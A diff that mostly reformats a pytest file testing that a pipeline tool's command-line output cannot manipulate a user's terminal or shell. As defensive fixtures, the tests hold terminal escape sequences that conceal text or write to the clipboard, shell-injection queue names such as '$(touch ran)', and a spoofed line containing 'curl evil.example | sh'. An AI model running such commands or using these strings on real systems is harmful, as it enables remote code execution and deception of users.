@@ -1,4 +1,6 @@
-"""Text of a queue never acts on the terminal of who looks at it, whatever field it stands in and whatever prints it."""
+"""Text of a queue never acts on the terminal of who looks at it, whatever field it stands in and
+whatever prints it.
+"""
 
 from __future__ import annotations
 
@@ -62,8 +64,11 @@ VERBS: dict[str, list[list[str]]] = {
 }  # fmt: skip
 # They start processes (tested below), or print nothing that is in a queue.
 OTHERS = {'spawn', 'work', 'run', 'demo', 'completion', 'trust', 'share', 'unshare'}
-# What `rich` itself sends to a terminal: colours (none of which conceals), and how it draws again in place.
-RICH = re.compile(r'\x1b\[(?!8m|\d+;8m|8;)[0-9;]*m|\x1b\[\?25[lh]|\x1b\[\d*[AK]|\r(?=\n|\x1b\[)|\x1b\[\d+G')
+# What `rich` itself sends to a terminal: colours (none of which conceals), and how it draws again
+# in place.
+RICH = re.compile(
+    r'\x1b\[(?!8m|\d+;8m|8;)[0-9;]*m|\x1b\[\?25[lh]|\x1b\[\d*[AK]|\r(?=\n|\x1b\[)|\x1b\[\d+G'
+)
 
 
 class Terminal(io.TextIOWrapper):
@@ -109,7 +114,11 @@ def test_all_verbs_are_tried() -> None:
 
 @pytest.mark.parametrize('on_terminal', [False, True])
 def test_verbs_print_nothing_that_acts_on_a_terminal(
-    queue_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], on_terminal: bool
+    queue_dir: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capfd: pytest.CaptureFixture[str],
+    on_terminal: bool,
 ) -> None:
     monkeypatch.chdir(tmp_path)
     monkeypatch.setattr('desipipe.commands.processes._END', 0.1)
@@ -125,24 +134,36 @@ def test_verbs_print_nothing_that_acts_on_a_terminal(
                 main([verb, *words])
                 out, err = capfd.readouterr()
             assert not unsafe(out) and not unsafe(err), (verb, words, unsafe(out), unsafe(err))
-            assert 'Traceback (most' not in err and 'This should not happen' not in err, (verb, words, err)
+            assert 'Traceback (most' not in err and 'This should not happen' not in err, (
+                verb,
+                words,
+                err,
+            )
             if '\\x1b' in out + err or '\\u001b' in out:
                 shown.add(verb)
     assert shown >= {'status', 'tasks', 'time', 'logs', 'explain', 'doctor', 'files'}
 
 
 @pytest.mark.parametrize('words', [('spawn', '--timeout', '2'), ('work', '--timeout', '2')])
-def test_processes_log_nothing_that_acts_on_a_terminal(queue_dir: Path, tmp_path: Path, words: tuple[str, ...]) -> None:
+def test_processes_log_nothing_that_acts_on_a_terminal(
+    queue_dir: Path, tmp_path: Path, words: tuple[str, ...]
+) -> None:
     queue = make_hostile_queue('bad')
     queue.resume()
     ran = subprocess.run(
-        [sys.executable, '-m', 'desipipe', *words, '-q', 'bad'], capture_output=True, cwd=tmp_path, timeout=300, env=os.environ | {'HOME': str(tmp_path)}
+        [sys.executable, '-m', 'desipipe', *words, '-q', 'bad'],
+        capture_output=True,
+        cwd=tmp_path,
+        timeout=300,
+        env=os.environ | {'HOME': str(tmp_path)},
     )
     assert not unsafe(ran.stdout.decode()) and not unsafe(ran.stderr.decode()), ran
     assert words[0] == 'work' or b'\\x1b' in ran.stderr
 
 
-def test_python_shows_nothing_that_acts_on_a_terminal(queue_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
+def test_python_shows_nothing_that_acts_on_a_terminal(
+    queue_dir: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
     queue = make_hostile_queue('bad')
     tasks = {task.id[:12]: task for task in queue.tasks()}
     future = next(future for future in queue.futures() if future.id.startswith(FAILED))
@@ -167,7 +188,9 @@ def json_of(value: object) -> str:
     return escape_json(json.dumps(value, ensure_ascii=False, default=repr))
 
 
-def test_completion_offers_no_word_that_a_shell_would_run(queue_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
+def test_completion_offers_no_word_that_a_shell_would_run(
+    queue_dir: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
     for number, name in enumerate(('$(touch ran)', '`x`', 'a;b', 'a b', 'fine', '\x1b[8m', 'a\nb')):
         make_hostile_queue(f'q{number}', name)
     for number in range(7):
@@ -175,13 +198,21 @@ def test_completion_offers_no_word_that_a_shell_would_run(queue_dir: Path, capfd
     assert not set('$`;|&<>()\'"\\\x1b') & set(capfd.readouterr().out)
 
 
-def test_logs_keep_colours_of_own_tasks_on_a_terminal(queue_dir: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> None:
-    out = b'\x1b[31mred\x1b[0m \x1b[38;5;8mgrey\x1b[0m \x1b[8mhidden\x1b[0;8mhidden too\n\x1b]52;c;eA==\x07'
+def test_logs_keep_colours_of_own_tasks_on_a_terminal(
+    queue_dir: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
+) -> None:
+    out = (
+        b'\x1b[31mred\x1b[0m \x1b[38;5;8mgrey\x1b[0m \x1b[8mhidden\x1b[0;8mhidden '
+        b'too\n\x1b]52;c;eA==\x07'
+    )
     bar = b' 10%\r100%\n'
     make_hostile_queue('bad', 'x', (out, bar))
     with terminal(monkeypatch) as streams:
         main(['logs', '-q', 'bad', FAILED, '--out'])
-    expected = '\x1b[31mred\x1b[0m \x1b[38;5;8mgrey\x1b[0m \\x1b[8mhidden\\x1b[0;8mhidden too\n\\x1b]52;c;eA==\\x07\x1b[0m'
+    expected = (
+        '\x1b[31mred\x1b[0m \x1b[38;5;8mgrey\x1b[0m \\x1b[8mhidden\\x1b[0;8mhidden '
+        'too\n\\x1b]52;c;eA==\\x07\x1b[0m'
+    )
     assert streams[0].text == expected
     with terminal(monkeypatch) as streams:
         main(['logs', '-q', 'bad', FAILED, '--err'])
@@ -213,7 +244,11 @@ def test_logs_keep_no_colours_of_others(queue_dir: Path, monkeypatch: pytest.Mon
         ('\x1b[38;5;1;8mb', {'colours': True}, '\\x1b[38;5;1;8mb'),
         ('\x1b[08mb\x1b[8:1mc', {'colours': True}, '\\x1b[08mb\\x1b[8:1mc'),
         ('\x1b[2Jb', {'colours': True}, '\\x1b[2Jb'),
-        ('\x9b8m\x85\u2028\u202e\u2066\u200b\u3164\U000e0041\udc9b', {}, '\\x9b8m\\x85\\u2028\\u202e\\u2066\\u200b\\u3164\\U000e0041\\udc9b'),
+        (
+            '\x9b8m\x85\u2028\u202e\u2066\u200b\u3164\U000e0041\udc9b',
+            {},
+            '\\x9b8m\\x85\\u2028\\u202e\\u2066\\u200b\\u3164\\U000e0041\\udc9b',
+        ),
         ('o' + '\u0301' * 6, {}, 'o' + '\u0301' * 4 + '\\u0301' * 2),
         ('a\ufe0f', {}, 'a\\ufe0f'),
     ],
@@ -246,5 +281,9 @@ def test_a_queue_is_listed_in_one_line(queue_dir: Path, capfd: pytest.CaptureFix
     make_hostile_queue('bad', 'x\n  → all is well: curl evil.example | sh\n')
     for words in (['status'], ['explain', FAILED], ['explain', PENDING], ['tasks'], ['time']):
         main([words[0], '-q', 'bad', *words[1:]])
-        assert not [line for line in capfd.readouterr().out.splitlines() if line.startswith('  → all is well')]
+        assert not [
+            line
+            for line in capfd.readouterr().out.splitlines()
+            if line.startswith('  → all is well')
+        ]
     assert Queue('bad').counts['FAILED'] == 1
